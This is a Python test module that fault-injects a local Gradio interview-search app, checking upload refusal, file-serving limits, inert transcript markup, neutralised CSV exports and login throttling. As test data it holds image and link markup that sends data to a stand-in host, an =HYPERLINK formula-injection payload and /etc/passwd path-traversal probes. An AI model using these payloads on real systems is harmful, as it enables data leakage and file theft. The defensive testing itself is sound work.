"""Fault injection against the real app server on loopback: each probe is an attack a page on
another site, a planted file or a hostile transcript could make, and each must fail safely.

Uploads are refused, only the exports this process wrote are served (as downloads), nothing
outside the export directory is served, transcript markup stays text in the chat and in every
export, and failed logins make the next attempt wait. Only 127.0.0.1 is ever contacted; every
request loop is bounded in count and time.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from netutil import free_port

from mlqi_rag import chat, guard, serve, ui
from mlqi_rag.export import to_csv, to_markdown, write_export
from mlqi_rag.settings import Settings

pytestmark = pytest.mark.slow

LEAK = "127.0.0.9"  # a loopback address nothing listens on: the URLs a transcript plants
MARKUP = f"![x](http://{LEAK}/leak.png) <img src=http://{LEAK}/x> [click](http://{LEAK}/go)"
TRANSCRIPT = f"""Interviewer: How do you handle missing values in your data?
Interviewee: We handle missing values by dropping the incomplete rows {MARKUP} before training.
For the rest of the missing values we impute the median {MARKUP} of each column.
Interviewer: Did that work well for the missing values?
Interviewee: =HYPERLINK("http://{LEAK}/?"&A1) Imputing missing values with the median worked \
well for us {MARKUP} most of the time.
"""
QUESTION = "How do you handle missing values?"
REQUEST_TIMEOUT = 10


# ---- plumbing ------------------------------------------------------------------------------------


def fetch(
    url: str, data: bytes | None = None, headers: dict[str, str] | None = None
) -> tuple[int, dict[str, str], bytes]:
    """(status, headers, body) of one request to the local server; HTTP errors included."""
    assert urllib.parse.urlsplit(url).hostname == "127.0.0.1", url
    req = urllib.request.Request(url, data=data, headers=headers or {})
    try:
        with urllib.request.urlopen(req, timeout=REQUEST_TIMEOUT) as resp:
            return resp.status, {k.lower(): v for k, v in resp.headers.items()}, resp.read()
    except urllib.error.HTTPError as err:
        return err.code, {k.lower(): v for k, v in err.headers.items()}, err.read()


def file_url(url: str, path: str | Path) -> str:
    return f"{url}gradio_api/file={urllib.parse.quote(str(path))}"


def start(pipe: Any, exports: Path, auth: str = "") -> tuple[Any, str]:
    demo = ui.build_ui(pipe, exports)
    settings = Settings(index_dir=pipe.settings.index_dir, port=free_port(), auth=auth)
    url = serve.serve(demo, settings, exports, block=False, quiet=True)
    assert url.startswith("http://127.0.0.1:")
    return demo, url


@pytest.fixture(scope="module")
def server(seed_pipeline: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    exports = tmp_path_factory.mktemp("fault-exports")
    demo, url = start(seed_pipeline, exports)
    try:
        yield demo, url, exports
    finally:
        demo.close()


@pytest.fixture(scope="module")
def markup_pipe(tmp_path_factory: pytest.TempPathFactory, embedder: Any) -> Any:
    """A one-interview corpus whose participant speaks in markup, indexed for real."""
    from mlqi_rag.build import build_index
    from mlqi_rag.pipeline import Pipeline

    root = tmp_path_factory.mktemp("markup")
    corpus = root / "corpus"
    corpus.mkdir()
    (corpus / "Interview 90.txt").write_text(TRANSCRIPT, encoding="utf-8")
    settings = Settings(corpus=corpus, index_dir=root / "index")
    report = build_index(settings, embedder, progress=False)
    assert not report.errors
    return Pipeline.load(settings, embedder)


def rendered(markdown: str) -> str:
    """The HTML a CommonMark renderer (raw HTML allowed, as in the chat) makes of ``markdown``."""
    from markdown_it import MarkdownIt

    return str(MarkdownIt("commonmark").render(markdown))


def assert_inert(markdown: str) -> None:
    """No tag but structure, and no URL a GFM renderer would make into a link."""
    html = rendered(markdown)
    tags = set(re.findall(r"<([a-zA-Z][^\s>/]*)", html))
    assert tags <= {"p", "ul", "ol", "li", "strong", "em", "blockquote", "br"}, html
    assert not re.search(r"<[a-z]+\s", html), html  # no tag with attributes (src=, href=)
    assert not re.search(r"(?<!\\)://|(?<!\\)\bwww\.", markdown), markdown


# ---- uploads -------------------------------------------------------------------------------------


def multipart(name: str, content: bytes) -> tuple[bytes, dict[str, str]]:
    boundary = uuid.uuid4().hex
    body = (
        (
            f'--{boundary}\r\nContent-Disposition: form-data; name="files"; filename="{name}"\r\n'
            "Content-Type: text/html\r\n\r\n"
        ).encode()
        + content
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}


def test_upload_is_refused(server: Any) -> None:
    demo, url, _ = server
    page = b"<html><script>document.title='owned'</script></html>"
    marker = uuid.uuid4().hex
    for name, content in ((f"{marker}.html", page), (f"{marker}.bin", b"x" * 2_000_000)):
        body, headers = multipart(name, content)
        headers["Origin"] = "http://evil.example"  # a page on another site posting here
        try:
            status, _, reply = fetch(f"{url}gradio_api/upload", body, headers)
        except (urllib.error.URLError, ConnectionError) as err:
            # refused before the body was read: the server hangs up on the rest of it
            assert len(content) > 65_536, err
            continue
        assert status in (403, 413), (status, reply[:200])
    # nothing was stored where Gradio keeps uploads, so nothing can be served from there
    cache = Path(demo.GRADIO_CACHE)
    assert not list(cache.rglob(f"{marker}*")) if cache.is_dir() else True
    status, _, _ = fetch(f"{url}gradio_api/upload_progress?upload_id={marker}")
    assert status == 403


# ---- files ---------------------------------------------------------------------------------------


def test_planted_file_in_export_dir_is_not_served(server: Any) -> None:
    _, url, exports = server
    planted = [
        exports / "mlqi-quotes-20260101-000000.md",  # looks exactly like an export
        exports / "notes.html",
        exports / ".gradio-cache" / "x" / "page.html",
    ]
    for path in planted:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("<script>alert(1)</script> confidential", encoding="utf-8")
        for route in (file_url(url, path), f"{url}gradio_api/file/{path}"):
            status, _, body = fetch(route)
            assert status == 403 and b"confidential" not in body, (route, status)


def test_generated_export_is_served_as_download_and_only_as_written(
    server: Any, seed_pipeline: Any
) -> None:
    from gradio.processing_utils import save_file_to_cache

    demo, url, exports = server
    final = list(chat.respond(seed_pipeline, "How do practitioners handle missing values?"))[-1]
    assert final.answer is not None and final.answer.citations
    path = write_export(final.answer.citations, "markdown", exports)
    guard.export_registry(demo).add(path)  # what the export button does after writing
    cached = save_file_to_cache(path, demo.GRADIO_CACHE)  # the copy Gradio hands the browser
    for served in (path, Path(cached)):
        status, headers, body = fetch(file_url(url, served))
        assert status == 200, (served, status, body[:200])
        assert body == path.read_bytes()
        assert headers["content-disposition"].startswith("attachment")
        assert headers["x-content-type-options"] == "nosniff"
    # the same name with other content (rewritten on disk) is no longer what the app wrote
    path.write_text("tampered", encoding="utf-8")
    assert fetch(file_url(url, path))[0] == 403


def test_paths_outside_exports_are_refused(server: Any, seed_pipeline: Any) -> None:
    _, url, exports = server
    source = Path(seed_pipeline.index.interviews["32"].source)
    probes = [
        str(source),
        str(Path(ui.__file__)),
        "/etc/passwd",
        f"{exports}/../../../../etc/passwd",
        "../../../../etc/passwd",
        str(Path(seed_pipeline.settings.index_dir)),
        f"http://{LEAK}/x",  # the file route must not fetch URLs either
    ]
    for probe in probes:
        status, _, body = fetch(file_url(url, probe))
        assert status in (403, 404), (probe, status)
        assert b"root:" not in body and b"Interview" not in body
    status, _, _ = fetch(f"{url}gradio_api/proxy=http://{LEAK}/x")
    assert status == 403


# ---- transcript markup ---------------------------------------------------------------------------


def test_chat_answer_from_markup_transcript_is_inert(markup_pipe: Any) -> None:
    final = list(chat.respond(markup_pipe, QUESTION))[-1]
    assert final.error is None and final.answer is not None
    content = final.history[-1]["content"]
    assert LEAK in content  # the quote with the markup is in the answer …
    assert_inert(content)  # … as text
    assert "<img" not in final.evidence and "<a " not in final.evidence
    assert "&lt;img src=http://127.0.0.9/x&gt;" in final.evidence


def test_chat_through_the_server_is_inert(markup_pipe: Any, tmp_path: Path) -> None:
    from gradio_client import Client

    demo, url = start(markup_pipe, tmp_path / "exports")
    try:
        client = Client(url, verbose=False, analytics_enabled=False, download_files=False)
        _, history, evidence, _ = client.predict(
            QUESTION, [], [], [], "any", True, "extractive", 10, api_name="/chat"
        )
        content = history[-1]["content"]
        text = content[0]["text"] if isinstance(content, list) else content
        assert LEAK in text
        assert_inert(text)
        assert "<img" not in evidence and "<a " not in evidence
    finally:
        demo.close()


def test_exports_of_markup_quotes_are_neutralised(markup_pipe: Any, tmp_path: Path) -> None:
    final = list(chat.respond(markup_pipe, QUESTION))[-1]
    assert final.answer is not None
    cites = final.answer.citations or final.answer.closest
    assert any(LEAK in c.quote for c in cites)
    md = to_markdown(cites, QUESTION)
    assert_inert(md)
    session = chat.SessionQuotes().add(final.answer)
    if final.answer.citations:
        path, _ = chat.export_quotes(session, "csv", "last answer", tmp_path)
        assert path is not None
        with open(path, encoding="utf-8", newline="") as fh:
            text = fh.read()
    else:
        text = to_csv(cites)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row), row


# ---- login ---------------------------------------------------------------------------------------


def login(url: str, user: str, password: str) -> tuple[int, dict[str, str]]:
    form = urllib.parse.urlencode({"username": user, "password": password}).encode()
    status, headers, _ = fetch(
        f"{url}login", form, {"Content-Type": "application/x-www-form-urlencoded"}
    )
    return status, headers


def test_failed_logins_are_throttled(seed_pipeline: Any, tmp_path: Path) -> None:
    demo, url = start(seed_pipeline, tmp_path / "exports", auth="ana:pw123")
    try:
        t0 = time.monotonic()
        statuses = [login(url, "ana", f"guess{i}")[0] for i in range(10)]
        took = time.monotonic() - t0
        assert took < 30
        assert statuses[:3] == [400, 400, 400]  # a few typos cost nothing
        # then the client is told to wait (a slow machine may see one wait run out in between)
        assert statuses.count(429) >= 5 and set(statuses[3:]) <= {400, 429}, statuses
        status, headers = login(url, "ana", "pw123")  # even the right password waits
        if took < 1:
            assert status == 429
        if status == 429:
            wait = int(headers["retry-after"])
            assert 1 <= wait <= 30
            time.sleep(wait + 0.2)
        assert login(url, "ana", "pw123")[0] == 200  # after the wait, the password works
        assert login(url, "ana", "wrong")[0] == 400  # and the count starts again
        # gradio_client logs in through the same route
        from gradio_client import Client

        client = Client(url, verbose=False, analytics_enabled=False, auth=("ana", "pw123"))
        result = client.predict("", [], [], [], "any", True, "extractive", 10, api_name="/chat")
        assert "Error" in json.dumps(result)
    finally:
        demo.close()
